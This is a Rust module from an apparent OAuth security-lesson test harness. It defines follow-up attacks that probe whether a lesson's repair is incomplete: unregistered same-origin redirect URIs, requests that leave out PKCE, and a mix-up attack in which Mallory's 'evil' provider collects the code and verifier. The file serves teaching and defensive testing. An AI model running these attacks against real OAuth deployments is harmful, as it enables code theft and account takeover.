//! Second attacks: on repairs that stop a lesson's exploit and that the lesson itself calls wrong. `check`
//! plays them when the exploit was refused. They are no part of the five proofs: other lessons' vulnerable
//! twins may well let them in.

use crate::lesson::{Exploit, Lesson};
use crate::outcome::{Broken, Outcome};
use crate::targets::{Targets, refused};

pub(super) fn of(lesson: &Lesson) -> Option<Exploit> {
    match lesson.slug() {
        "redirect-uri-prefix" => Some(|targets| Box::pin(another_page_of_the_client(targets))),
        "code-injection-no-pkce" => Some(|targets| Box::pin(without_a_challenge(targets))),
        "mix-up" => Some(|targets| Box::pin(without_an_issuer(targets))),
        _ => None,
    }
}

/// RFC 9700 §4.1.3: the whole string is compared. On the same origin, an open redirector or a page with
/// scripts of others gives the code away (§4.1.2).
async fn another_page_of_the_client(targets: &Targets) -> Result<Outcome, Broken> {
    let client = &targets.urls().client;
    let mut last = None;
    for redirect_uri in [format!("{client}/wall"), format!("{client}/spa?next=%2Fwall")] {
        let link = targets.request("album-spa", &redirect_uri, &[])?;
        let answer = targets.attacker().get(&link.url).await?;
        if !answer.status.is_client_error() {
            return Ok(Outcome::succeeded(format!(
                "the code may go to {redirect_uri}, which nobody registered (RFC 9700 §4.1.3)"
            )));
        }
        last = Some(refused(&answer));
    }
    last.ok_or_else(|| Broken::new("Mallory sends a link", "nothing was tried"))
}

/// RFC 7636 §4.4.1: a server that requires PKCE refuses the request with `invalid_request`. A server that
/// does not require it gives out codes that anybody can redeem.
async fn without_a_challenge(targets: &Targets) -> Result<Outcome, Broken> {
    let redirect_uri = format!("{}/spa", targets.urls().client);
    let left_out = [("code_challenge", ""), ("code_challenge_method", "")];
    let link = targets.request("album-spa", &redirect_uri, &left_out)?;
    let answer = targets.attacker().get(&link.url).await?;
    if answer.error_code().is_empty() && !answer.status.is_client_error() {
        return Ok(Outcome::succeeded(
            "a request without code_challenge is accepted: who leaves PKCE out needs no verifier (RFC 7636 §4.4.1)",
        ));
    }
    Ok(refused(&answer))
}

/// RFC 9207 §2.4: from a server that promises `iss`, a response without it is refused. Mallory's provider
/// promises it, and answers without.
async fn without_an_issuer(targets: &Targets) -> Result<Outcome, Broken> {
    let client = &targets.urls().client;
    targets.attacker_site("authorize", format!("{client}/callback?code=of-somebody&{{query}}"));
    let page = targets.victim().open(&format!("{client}/login?provider=evil")).await?;
    Ok(match targets.received("code_verifier") {
        Some(_) => Outcome::succeeded(
            "a response without iss is accepted, from a server that promises it (RFC 9207 §2.4): \
             code and verifier go to Mallory",
        ),
        None => refused(&page),
    })
}
